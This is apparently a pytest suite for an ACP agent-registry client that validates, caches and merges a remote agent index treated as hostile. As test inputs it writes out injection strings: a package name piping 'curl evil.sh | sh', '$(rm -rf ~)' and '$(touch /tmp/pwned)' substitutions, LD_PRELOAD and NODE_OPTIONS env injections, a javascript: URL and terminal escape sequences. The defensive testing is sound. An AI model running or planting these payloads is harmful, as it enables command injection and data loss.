"""The ACP agent registry: its index read as hostile data, cached, merged under our own table.

``tests/fixtures/acp_registry.json`` is the published index's shape
(``registry.schema.json`` of github.com/agentclientprotocol/registry at
3de1678346d1b37b6c3f07de503043ebcbb9cbdb, as ``.github/workflows/build_registry.py``
builds it: entries from ``*/agent.json``, icons as CDN URLs) with six real
entries, their binary platforms trimmed to three: auggie (npx with env),
claude-code-acp and gemini (npx), codex-acp and mistral-vibe (binary only),
and minion-code (uvx, from the registry's commit 2410963).
"""

from __future__ import annotations

import copy
import http.server
import json
import os
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from acp_kernel.client import acp_registry
from acp_kernel.client.acp_registry import (
    MAX_AGENTS, MAX_BYTES, cache_file, fetch, FetchError, launch_argv, PackageDistribution, parse_bytes,
    parse_registry, read_registry,
)
from acp_kernel.client.registry import BUILTIN, ConfigError, load_config, merge_registry
from acp_kernel.services.files import guard_of, guarded_paths

FIXTURE = Path(__file__).parent.parent / "fixtures" / "acp_registry.json"
PROXY_VARS = ("http_proxy", "HTTP_PROXY", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY")


def fixture_data() -> dict[str, Any]:
    return json.loads(FIXTURE.read_text())


def entry(**over: Any) -> dict[str, Any]:
    """A valid npx entry (the real gemini one), with fields replaced."""
    base = {
        "id": "newagent", "name": "New Agent", "version": "1.2.3", "description": "an agent",
        "repository": "https://example.org/new", "authors": ["Someone"], "license": "MIT",
        "distribution": {"npx": {"package": "@scope/new-agent@1.2.3", "args": ["--acp"]}},
    }
    base.update(over)
    return base


@pytest.fixture(autouse=True)
def _isolated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ACP_KERNEL_REGISTRY_CACHE", str(tmp_path / "cache"))
    monkeypatch.delenv("ACP_KERNEL_REGISTRY", raising=False)
    monkeypatch.delenv("ACP_KERNEL_AGENT", raising=False)
    monkeypatch.setattr(acp_registry, "_FAILED", {})
    monkeypatch.setattr(acp_registry, "_PARSED", {})
    for var in PROXY_VARS:  # the test's servers are reached directly
        monkeypatch.delenv(var, raising=False)


# -- the real format ---------------------------------------------------------------


def test_the_fixture_reads_as_the_registry_publishes_it():
    listing = parse_registry(fixture_data(), "fx")
    assert listing.index and not listing.notes
    runnable = {a.id: a for a in listing.agents}
    assert set(runnable) == {"auggie", "claude-code-acp", "gemini", "minion-code"}
    assert runnable["auggie"].command == ("npx", "--yes", "--prefer-offline", "@augmentcode/auggie@0.15.0", "--acp")
    assert runnable["auggie"].env == {"AUGMENT_DISABLE_AUTO_UPDATE": "1"}
    assert runnable["minion-code"].command == ("uvx", "minion-code@0.1.5", "acp")
    assert runnable["gemini"].command[-2:] == ("@google/gemini-cli@0.27.3", "--experimental-acp")
    assert set(listing.skipped) == {"codex-acp", "mistral-vibe"}
    assert all("binary distribution only" in why for why in listing.skipped.values())
    assert set(listing.listed) == {"auggie", "claude-code-acp", "codex-acp", "gemini", "minion-code", "mistral-vibe"}


def test_merge_keeps_ours_and_adds_the_rest():
    merged, notes = merge_registry(dict(BUILTIN), parse_registry(fixture_data(), "REG"))
    for name in ("claude", "codex", "gemini"):  # ours, listed under their registry ids
        ours, now = BUILTIN[name], merged[name]
        assert (now.command, now.env, now.passthrough, now.title, now.install, now.login, now.source) == \
            (ours.command, ours.env, ours.passthrough, ours.title, ours.install, ours.login, "built-in")
    assert merged["claude"].listed == "registry REG as claude-code-acp 0.16.0"
    assert merged["codex"].version == "0.9.2"  # binary only in the registry: still annotates ours
    assert merged["auggie"].source == "registry REG" and merged["auggie"].passthrough is None
    assert merged["auggie"].install == "install Node.js (which provides npx)"
    assert merged["minion-code"].install.startswith("install uv")
    assert "claude-code-acp" not in merged and "codex-acp" not in merged
    assert notes == [n for n in notes if n.startswith("mistral-vibe: skipped, binary distribution only")] and notes


def test_a_registry_entry_never_changes_how_ours_runs():
    hostile = [
        entry(id="claude-code-acp", name="Totally Claude",
              distribution={"npx": {"package": "evil-pkg", "args": ["--steal"], "env": {"ANTHROPIC_API_KEY": "x"}}}),
        entry(id="kimi", distribution={"uvx": {"package": "evil-kimi"}}),
    ]
    merged, _ = merge_registry(dict(BUILTIN), parse_registry({"agents": hostile}, "R"))
    assert merged["claude"].command == BUILTIN["claude"].command and merged["claude"].env == BUILTIN["claude"].env
    assert merged["claude"].title == "Claude Code"
    assert merged["kimi"].command == BUILTIN["kimi"].command
    assert merged["kimi"].passthrough is BUILTIN["kimi"].passthrough
    assert set(merged) == set(BUILTIN)


# -- hostile entries ---------------------------------------------------------------


@pytest.mark.parametrize("bad, why", [
    (entry(description="x" * 1_000_000), "at most 2000"),
    (entry(name="\x1b]0;pwned\x07Agent"), "U+001B"),
    (entry(description="safe \u202etxt.exe"), "U+202E"),
    (entry(id="Bad Id"), "id"),
    (entry(id="x" * 65), "id"),
    (entry(version=1), "version"),
    (entry(version="latest"), "version"),
    (entry(repository="javascript:alert(1)"), "repository"),
    ({k: v for k, v in entry().items() if k != "distribution"}, "distribution"),
    (entry(distribution={"npx": {"package": "pkg", "args": "--acp --yolo"}}), "args"),
    (entry(distribution={"npx": {"package": "pkg", "args": ["a"] * 65}}), "args"),
    (entry(distribution={"npx": {"package": "pkg", "env": {"NODE_OPTIONS": "--require /tmp/x.js"}}}), "NODE_OPTIONS"),
    (entry(distribution={"npx": {"package": "pkg", "env": {"LD_PRELOAD": "/tmp/x.so"}}}), "LD_PRELOAD"),
    (entry(distribution={"uvx": {"package": "pkg", "env": {"PATH": "/tmp"}}}), "PATH"),
    (entry(distribution={"npx": {"package": "pkg", "env": {"A B": "1"}}}), "env"),
    (entry(distribution={"npx": {"package": "pkg; curl evil.sh | sh"}}), "not a package name"),
    (entry(distribution={"npx": {"package": "$(touch /tmp/pwned)"}}), "not a package name"),
    (entry(distribution={"npx": {"package": "--call=sh -c id"}}), "not a package name"),
    (entry(distribution={"uvx": {"package": "-p=/tmp/python"}}), "not a package name"),
    (entry(distribution={"npx": {"package": "x" * 215}}), "package"),
    (entry(distribution={}), "distribution only"),
    (entry(distribution={"docker": {"image": "x"}}), "distribution only"),
    ("not an object", "invalid"),
])
def test_a_hostile_entry_is_skipped_and_named(bad, why):
    listing = parse_registry({"version": "1.0.0", "agents": [bad, entry(id="good")]}, "R")
    assert [a.id for a in listing.agents] == ["good"]  # the others stay
    (label, reason), = listing.skipped.items()
    assert label in ("newagent", "agents[0]") and why in reason, reason
    assert len(reason) < 600  # a huge field is not echoed whole


def test_shell_metacharacters_in_args_stay_one_argv_word():
    word = "$(rm -rf ~); `id` | sh && echo *"
    listing = parse_registry({"agents": [entry(distribution={"npx": {"package": "p@1.0.0", "args": [word, "--acp"]}})]})
    (agent,) = listing.agents
    assert agent.command == ("npx", "--yes", "--prefer-offline", "p@1.0.0", word, "--acp")
    with pytest.raises(ValueError, match="not a package name"):
        launch_argv("npx", PackageDistribution(package="a b"))
    with pytest.raises(ValueError, match="cannot run 'binary'"):
        launch_argv("binary", PackageDistribution(package="a"))


def test_duplicate_ids_use_neither_copy():
    listing = parse_registry({"agents": [entry(id="twin"), entry(id="twin", name="Evil twin"), entry(id="solo")]})
    assert [a.id for a in listing.agents] == ["solo"]
    assert listing.skipped == {"twin": "listed 2 times (none used)"}


@pytest.mark.parametrize("raw, why", [
    (b"[1, 2]", 'no "agents" list'),
    (b'{"agents": {"a": 1}}', 'no "agents" list'),
    (b"{not json", "not valid JSON at line 1"),
    (b"\xff\xfe{}", "not UTF-8"),
    (b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
    (b" " * (MAX_BYTES + 1), "larger than"),
], ids=["a-list", "agents-not-a-list", "not-json", "not-utf8", "deep", "too-large"])  # (the raw ids: 2 MB each)
def test_a_malformed_index_is_a_note(raw, why):
    listing = parse_bytes(raw, "R")
    assert not listing.agents and why in " ".join(listing.notes)


def test_too_many_agents_are_cut():
    listing = parse_registry({"agents": [entry(id=f"a{i}") for i in range(MAX_AGENTS + 5)]})
    assert len(listing.agents) == MAX_AGENTS and "only the first" in listing.notes[0]


# -- the cache, against a server of the test's own --------------------------------------


class _Server:
    """An HTTP server on 127.0.0.1 serving ``body`` (or ``status``), counting requests;
    ``hang`` makes it accept and never answer until the test ends."""

    def __init__(self) -> None:
        self.body = FIXTURE.read_bytes()
        self.status = 200
        self.hits = 0
        self.release = threading.Event()
        self.hang = False
        owner = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
                owner.hits += 1
                if owner.hang:
                    owner.release.wait(10)
                    return
                self.send_response(owner.status)
                self.send_header("Content-Length", str(len(owner.body)))
                self.end_headers()
                self.wfile.write(owner.body)

            def log_message(self, *args: Any) -> None:
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}/registry.json"
        self.thread = threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05})
        self.thread.start()

    def stop(self) -> None:
        self.release.set()
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join(5)
        assert not self.thread.is_alive()


@pytest.fixture
def server() -> Iterator[_Server]:
    srv = _Server()
    try:
        yield srv
    finally:
        srv.stop()


def test_a_url_is_fetched_once_and_cached(server, tmp_path):
    first = read_registry(server.url)
    assert server.hits == 1 and {a.id for a in first.agents} >= {"auggie", "minion-code"} and not first.notes
    assert cache_file(server.url).read_bytes() == FIXTURE.read_bytes()
    again = read_registry(server.url)
    assert server.hits == 1 and [a.id for a in again.agents] == [a.id for a in first.agents]
    read_registry(server.url, refresh=True)
    assert server.hits == 2
    # a day later the copy is stale: fetched again
    read_registry(server.url, now=time.time() + acp_registry.TTL_SECONDS + 1)
    assert server.hits == 3


def test_a_failed_fetch_keeps_the_copy_and_says_so(server):
    read_registry(server.url)
    server.status, server.body = 500, b"oops"
    stale = read_registry(server.url, refresh=True)
    assert "cannot fetch (HTTP 500" in stale.notes[0] and "using the copy fetched" in stale.notes[0]
    assert {a.id for a in stale.agents} >= {"auggie"}
    server.status, server.body = 200, b'{"agents": 5}'  # served, but not an index: the copy stays
    kept = read_registry(server.url, refresh=True)
    assert "unusable" in kept.notes[0] and kept.agents
    assert cache_file(server.url).read_bytes() == FIXTURE.read_bytes()


def test_no_copy_and_no_fetch_means_our_table_only(server):
    server.status = 404
    listing = read_registry(server.url)
    assert not listing.agents and "HTTP 404" in listing.notes[0] and "no copy cached" in listing.notes[0]
    hits = server.hits
    read_registry(server.url)  # a failed fetch is not retried at once (a kernel reads its config often)
    assert server.hits == hits


def test_a_server_that_never_answers_times_out(server):
    server.hang = True
    start = time.monotonic()
    listing = read_registry(server.url, timeout=0.5)
    assert time.monotonic() - start < 3
    assert "timed out after 0.5 s" in listing.notes[0] and not listing.agents


def test_an_oversized_body_is_refused(server):
    server.body = b" " * (MAX_BYTES + 10)
    with pytest.raises(FetchError, match="larger than"):
        fetch(server.url)


def test_file_urls_and_paths(tmp_path):
    copy_path = tmp_path / "reg.json"
    copy_path.write_bytes(FIXTURE.read_bytes())
    via_url = read_registry(copy_path.as_uri())
    assert {a.id for a in via_url.agents} >= {"auggie"} and cache_file(copy_path.as_uri()).exists()
    assert read_registry(str(copy_path)).agents == via_url.agents
    assert "cannot read the file" in read_registry(str(tmp_path / "nope.json")).notes[0]
    assert "not fetched" in read_registry("ftp://127.0.0.1/registry.json").notes[0]


# -- the config file, and `acp-kernel agents` ----------------------------------------------


def _config(tmp_path: Path, data: dict[str, Any]) -> Path:
    path = tmp_path / "acp_kernel.json"
    path.write_text(json.dumps(data))
    return path


def test_config_names_the_registry_and_overrides_its_agents(tmp_path, monkeypatch):
    path = _config(tmp_path, {"registry": str(FIXTURE), "agents": {"auggie": {"env": {"AUGMENT_API_KEY": "k"}}}})
    cfg = load_config(path)
    assert cfg.registry == str(FIXTURE)
    auggie = cfg.agent("auggie")
    assert auggie.env == {"AUGMENT_DISABLE_AUTO_UPDATE": "1", "AUGMENT_API_KEY": "k"}
    assert auggie.source == f"registry {FIXTURE}, overridden in {path}"
    assert cfg.agent("claude").command == BUILTIN["claude"].command
    assert any(n.startswith("mistral-vibe: skipped") for n in cfg.registry_notes)
    broken = tmp_path / "broken.json"
    broken.write_text("{")
    monkeypatch.setenv("ACP_KERNEL_REGISTRY", str(broken))  # the variable wins over the file's key
    cfg = load_config(path)
    assert cfg.registry == str(broken) and "not valid JSON" in cfg.registry_notes[0]
    # the override of an agent the registry did not give is left out, with a note, not an error
    assert set(cfg.agents) == set(BUILTIN)
    assert f"agents.auggie in {path}: left out, the registry gave no agent 'auggie'" in cfg.registry_notes
    monkeypatch.delenv("ACP_KERNEL_REGISTRY")
    with pytest.raises(ConfigError, match="agents.ghost: a new agent needs a command"):  # a mistake stays one
        load_config(_config(tmp_path, {"registry": str(FIXTURE), "agents": {"ghost": {"env": {}}}}))
    cfg = load_config(_config(tmp_path, {"registry": str(broken), "default_agent": "auggie"}))
    assert cfg.default_agent == "demo" and "default_agent 'auggie'" in cfg.registry_notes[-1]


def test_a_relative_registry_path_is_beside_the_config_file(tmp_path, monkeypatch):
    (tmp_path / "reg.json").write_bytes(FIXTURE.read_bytes())
    monkeypatch.chdir("/")
    cfg = load_config(_config(tmp_path, {"registry": "reg.json"}))
    assert cfg.registry == str(tmp_path / "reg.json") and "auggie" in cfg.agents


def test_a_config_override_of_a_builtin_keeps_its_notes(tmp_path):
    cfg = load_config(_config(tmp_path, {"agents": {"gemini": {"env": {"GEMINI_API_KEY": "k"}}}}))
    assert cfg.agent("gemini").mcp_note == BUILTIN["gemini"].mcp_note != ""


def _agents_cli(tmp_path: Path, registry: str, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "ACP_KERNEL_CONFIG": str(_config(tmp_path, {"registry": registry})),
           "ACP_KERNEL_REGISTRY_CACHE": str(tmp_path / "cache")}
    for var in ("ACP_KERNEL_REGISTRY", "ACP_KERNEL_AGENT", *PROXY_VARS):
        env.pop(var, None)
    return subprocess.run([sys.executable, "-m", "acp_kernel", "agents", *args], capture_output=True, text=True,
                          timeout=60, env=env)


def test_cli_agents_shows_where_each_agent_came_from(tmp_path):
    res = _agents_cli(tmp_path, str(FIXTURE))
    assert res.returncode == 0, res.stderr
    out = res.stdout
    assert "auggie" in out and f"source: registry {FIXTURE}" in out
    assert "uvx minion-code@0.1.5 acp" in out and "@augmentcode/auggie@0.15.0 --acp" in out
    assert f"source: built-in; also in registry {FIXTURE} as claude-code-acp 0.16.0" in out
    assert "source: built-in\n" in out  # e.g. goose, which the registry does not list
    assert f"agent registry: {FIXTURE}\n" in out
    assert "mistral-vibe: skipped, binary distribution only" in out
    assert "codex-acp: skipped" not in out  # ours anyway


def test_cli_agents_survives_a_hostile_registry(tmp_path):
    data = fixture_data()
    data["agents"].append(copy.deepcopy(data["agents"][0]))  # auggie twice
    data["agents"].append(entry(id="term", name="\x1b]52;c;cHduZWQ=\x07clip"))
    hostile = tmp_path / "hostile.json"
    hostile.write_text(json.dumps(data))
    res = _agents_cli(tmp_path, str(hostile))
    assert res.returncode == 0, res.stderr
    assert "auggie: skipped, listed 2 times" in res.stdout and "\x1b" not in res.stdout
    assert "term: skipped, invalid" in res.stdout
    res = _agents_cli(tmp_path, "http://127.0.0.1:9/registry.json")  # the discard port: nothing listens
    assert res.returncode == 0, res.stderr
    assert "cannot fetch" in res.stdout and "registry agents left out" in res.stdout and "claude" in res.stdout


def test_the_cache_is_guarded_from_the_agent(tmp_path):
    planted = cache_file("https://example.org/registry.json")
    assert planted.is_relative_to(tmp_path / "cache")
    guard = guard_of(os.path.realpath(planted), "write", guarded_paths())
    assert guard is not None and "registry cache" in guard.why


def test_cli_agents_fetches_once_then_reads_the_cache_until_refresh(tmp_path, server):
    for _ in range(2):
        res = _agents_cli(tmp_path, server.url)
        assert res.returncode == 0 and f"source: registry {server.url}" in res.stdout, res.stderr
    assert server.hits == 1  # the second process read the copy on disk
    res = _agents_cli(tmp_path, server.url, "--refresh")
    assert res.returncode == 0 and server.hits == 2
